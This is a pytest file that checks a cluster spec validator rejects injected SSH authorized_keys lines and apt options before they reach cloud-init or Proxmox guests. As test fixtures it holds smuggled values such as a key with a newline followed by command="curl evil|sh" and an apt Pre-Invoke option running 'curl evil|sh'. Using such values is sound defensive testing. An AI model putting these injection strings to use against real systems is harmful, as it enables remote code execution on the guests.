"""Spec values that end up in a guest as code or configuration (issue 16, finding 8).

The SSH keys become lines of the guests' authorized_keys (cloud-init's `ssh_authorized_keys` for
the VMs' user, one line per key; Proxmox's `ssh-public-keys` for the containers' root), and the
packages arguments of cloud-init's `apt-get install`. Rendering passes both on as they are, so the
spec is what keeps a second line or an apt option out.
"""

from __future__ import annotations

from typing import Any, cast

import pytest
import yaml

from components.cloudinit import user_data
from spec import Cluster, SpecError, parse_cluster
from spec.settings import Access
from tests.support import STACKS, patched, stack_cluster, stack_data

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPqG1b2tYbLq1l0Jw8QW0kT1p8m3Zr3o3nR2T6dY9c4x"
# The reproduced attack: one list item that is two authorized_keys lines, the second with options.
SMUGGLED = f'{KEY} a\ncommand="curl evil|sh" {KEY}'
APT_OPTION = "-oDPkg::Pre-Invoke::=curl evil|sh"


def authorized_keys(cluster: Cluster) -> list[str]:
    """The lines cloud-init writes for the user, one per key joined by newlines (cloudinit/ssh_util.py)."""
    doc = cast(dict[str, Any], yaml.safe_load(user_data(cluster, [])))
    (user,) = doc["users"]
    return "\n".join(user["ssh_authorized_keys"]).split("\n")


def with_keys(keys: list[str]) -> dict[str, Any]:
    return patched(stack_data("home"), {"access.ssh_public_keys": keys})


def test_a_key_with_a_newline_is_refused_and_never_rendered() -> None:
    with pytest.raises(SpecError) as err:
        parse_cluster(with_keys([SMUGGLED]))
    message = str(err.value)
    assert message.startswith("access.ssh_public_keys[0]: String should match pattern")
    assert "curl" not in message  # the refusal does not echo the smuggled line into logs
    # What would reach user-data otherwise: rendering keeps the newline, so the spec is the guard.
    unchecked = stack_cluster("home").model_copy(update={"access": Access.model_construct(ssh_public_keys=[SMUGGLED])})
    assert f'command="curl evil|sh" {KEY}' in authorized_keys(unchecked)


@pytest.mark.parametrize(
    "key",
    [
        f"{KEY}\n",  # a final newline: pydantic's Rust regex `$` is the very end
        f"{KEY}\r\ncommand=true {KEY}",
        f"{KEY} a\x00b",
        f"{KEY}\tcomment",
        f'command="curl evil|sh" {KEY}',
        f'from="10.0.0.1",no-pty {KEY}',
        f"restrict {KEY}",
        "ssh-dss AAAAB3NzaC1kc3MAAACBAP",  # DSA: gone from OpenSSH
        "ssh-ed25519 not-base64!",
        "ssh-ed25519",
    ],
)
def test_a_key_is_one_line_of_type_blob_and_comment(key: str) -> None:
    with pytest.raises(SpecError, match=r"^access\.ssh_public_keys\[1\]: String should match pattern"):
        parse_cluster(with_keys([KEY, key]))


@pytest.mark.parametrize(
    "key_type",
    [
        "ssh-ed25519",
        "ssh-rsa",
        "ecdsa-sha2-nistp256",
        "ecdsa-sha2-nistp384",
        "ecdsa-sha2-nistp521",
        "sk-ssh-ed25519@openssh.com",
        "sk-ecdsa-sha2-nistp256@openssh.com",
    ],
)
def test_every_openssh_key_type_is_taken(key_type: str) -> None:
    blob = KEY.split()[1]
    cluster = parse_cluster(with_keys([f"{key_type} {blob}", f"{key_type} {blob} owner@laptop (yubikey 5)"]))
    assert len(cluster.access.ssh_public_keys) == 2


@pytest.mark.parametrize("stack", STACKS)
def test_each_shipped_key_is_one_authorized_keys_line(stack: str) -> None:
    cluster = stack_cluster(stack)
    lines = authorized_keys(cluster)
    assert len(lines) == len(cluster.access.ssh_public_keys)
    assert all(line.split()[0] in {"ssh-ed25519", "ssh-rsa"} for line in lines)


@pytest.mark.parametrize(
    "package",
    [APT_OPTION, "--allow-unauthenticated", "curl=8.14.1-2", "./evil.deb", "curl evil", "curl\nevil", "Curl", "c"],
)
def test_a_package_is_a_debian_package_name(package: str) -> None:
    data = patched(stack_data("home"), {"guests[0].packages": ["open-iscsi", package]})
    with pytest.raises(SpecError, match=r"^guests\[k3s-server-1\]\.packages\[1\]: String should match pattern"):
        parse_cluster(data)


def test_package_names_as_debian_has_them_are_taken() -> None:
    names = ["open-iscsi", "nfs-common", "libstdc++6", "g++", "python3.13", "0ad"]
    cluster = parse_cluster(patched(stack_data("home"), {"guests[0].packages": names}))
    assert cluster.guests[0].packages == names
